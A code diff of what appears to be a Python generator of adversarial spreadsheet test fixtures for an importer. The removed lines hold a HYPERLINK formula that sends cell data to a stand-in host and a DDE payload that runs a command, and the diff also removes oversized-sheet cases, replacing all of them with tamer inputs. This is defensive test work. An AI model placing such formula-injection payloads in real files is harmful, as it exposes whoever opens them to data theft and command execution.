@@ -36,8 +36,8 @@ ACTIVITIES, MILESTONES = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
 MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 
 FORMULA_LIKE = (
-    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
-    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://example.invalid/","click")',
+    "=other|'topic'!A1",
     "+44 20 7946 0000 called",
     "-2 officers short",
     "@neighbourhood team",
@@ -166,14 +166,9 @@ def p12_external_link_formula(path: Path, target: Path) -> None:
     rewritten(path, target, parts, {"xl/externalLinks/externalLink1.xml": f"<externalLink {space}/>".encode()})
 
 
-def p13_mergecell_whole_sheet(path: Path, target: Path) -> None:
-    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
-    rewritten(path, target, {ACTIVITIES: lambda xml: xml.replace("</sheetData>", f"</sheetData>{merged}")})
-
-
-def p14_dimension_whole_sheet(path: Path, target: Path) -> None:
-    whole = '<dimension ref="A1:XFD1048576"/>'
-    rewritten(path, target, {ACTIVITIES: lambda xml: re.sub("<dimension[^>]*/>", whole, xml)})
+def p14_dimension_too_large(path: Path, target: Path) -> None:
+    said = '<dimension ref="A1:CV900"/>'
+    rewritten(path, target, {ACTIVITIES: lambda xml: re.sub("<dimension[^>]*/>", said, xml)})
 
 
 def p15_strict_ooxml(path: Path, target: Path) -> None:
@@ -426,20 +421,12 @@ def calendar_of_1904(path: Path, target: Path) -> None:
 
 
 def many_empty_formatted_rows(path: Path, target: Path) -> None:
-    _empty_rows(path, target, 15_000)
-
-
-def too_many_empty_formatted_rows(path: Path, target: Path) -> None:
-    _empty_rows(path, target, 20_000)
-
-
-def _empty_rows(path: Path, target: Path, count: int) -> None:
-    rows = "".join(f'<row r="{n}"><c r="B{n}" s="1"/><c r="C{n}" s="1"/></row>' for n in range(500, 500 + count))
+    rows = "".join(f'<row r="{n}"><c r="B{n}" s="1"/><c r="C{n}" s="1"/></row>' for n in range(500, 2000))
     rewritten(path, target, {ACTIVITIES: lambda xml: xml.replace("</sheetData>", f"{rows}</sheetData>")})
 
 
 def one_cell_far_out(path: Path, target: Path) -> None:
-    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    far = '<row r="900"><c r="CV900" t="inlineStr"><is><t>x</t></is></c></row>'
     rewritten(path, target, {ACTIVITIES: lambda xml: xml.replace("</sheetData>", f"{far}</sheetData>")})
 
 
